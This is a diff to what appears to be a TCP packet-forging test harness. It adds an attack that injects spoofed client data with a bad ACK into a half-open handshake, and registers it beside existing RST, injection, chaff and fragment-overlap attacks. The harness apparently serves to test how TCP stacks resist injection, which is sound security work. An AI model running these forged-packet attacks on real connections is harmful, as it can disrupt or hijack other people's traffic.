@@ -555,7 +555,20 @@ def a_handshake_rst_server(at):
         at.follow()
 
 
-ATTACKS = {"csum_chaff_inject": a_csum_chaff_inject, "handshake_rst_client": a_handshake_rst_client,
+def a_handshake_bad_ack(at):
+    """Data as the client to the server in SYN-RCVD, at the right sequence number but
+    with an ACK that does not acknowledge the server's SYN-ACK (its ISN + 1 + 100000),
+    on its SYN-ACK (the scenario holds the client's ACK back). Linux's request socket
+    hands it to the listener, which resets it; the half-open connection stays, and the
+    real client completes it."""
+    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
+    if fr:
+        at.forge("c", "PA", fr.ack, fr.seq + 1 + 100000, line(at.args.payload), ts=False,
+                 note="data to SYN-RCVD, ACK not of its SYN-ACK")
+        at.follow()
+
+
+ATTACKS = {"csum_chaff_inject": a_csum_chaff_inject, "handshake_bad_ack": a_handshake_bad_ack, "handshake_rst_client": a_handshake_rst_client,
            "handshake_rst_server": a_handshake_rst_server,
            "chaff": a_chaff, "chaff_inject": a_chaff_inject, "handshake_data": a_handshake_data, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
            "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
